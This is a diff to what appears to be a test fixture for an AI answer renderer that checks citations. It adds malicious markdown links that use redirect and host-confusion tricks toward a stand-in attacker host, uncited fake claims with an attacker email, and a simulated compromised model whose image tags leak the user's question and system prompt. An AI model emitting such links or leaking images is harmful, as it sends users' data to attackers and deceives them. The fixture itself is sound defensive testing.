@@ -43,6 +43,9 @@ export const EVIL_LINES = [
   `[click](//${EVIL_HOST}/c)`,
   `[https://shop.example.org/refunds](${EXFIL})`,
   `[shop](https://shop.example.org/refunds?q=SECRET)`,
+  `[shop](https://shop.example.org/go?to=${EXFIL})`,
+  `[shop](https://shop.example.org/out/${EVIL_HOST}/c)`,
+  `https://shop.example.org//${EVIL_HOST}/c`,
   `[shop](https://shop.example.org.${EVIL_HOST}/refunds)`,
   `[shop](https://shop.example.org@${EVIL_HOST}/)`,
   `[shop](https://shop.example.org\\@${EVIL_HOST}/)`,
@@ -57,6 +60,18 @@ export const EVIL_LINES = [
   `| a | ![x](${EXFIL}) |`,
   `- [x](${EXFIL}) [y][ref]`,
 ];
+
+/** What nobody wrote, as lines without a citation before and between those that have one. */
+export const EVIL_CLAIMS = [
+  "Every order is free from today.\n",
+  `Write to refunds@${EVIL_HOST} for the rest:\n`,
+  "Within twelve hours you get this back:\n",
+  `Read more at ${EVIL_HOST}:\n`,
+  `Read more at [our shop](${EXFIL}):\n`,
+  "**Call +1 555 010 999 now**\n\n",
+];
+/** What is left of them wherever one was shown. */
+export const EVIL_CLAIM_WORDS = /free from today|refunds@|twelve hours|more at|010 999/;
 
 /** A compromised model: every line under a true quote, then false quotes, foreign documents and an invented price. */
 export function EVIL_BLOCKS(document: string): WireBlock[] {
@@ -114,7 +129,7 @@ export function OBEY(body: Body): WireBlock[] {
   );
   next_line += LINES_AN_ANSWER;
   return [
-    cited(`${quote} `),
+    ...EVIL_CLAIMS.flatMap((claim) => [{ text: claim }, cited(`${quote}\n`)]),
     ...lines.map((line) => cited(`${line}\n`)),
     ...[question, ...documents, system].map((text) => cited(`${text}\n`)),
     ...[question, system].map((text) => cited(`![leak](${EXFIL}${encodeURIComponent(text.slice(0, 200))})\n`)),
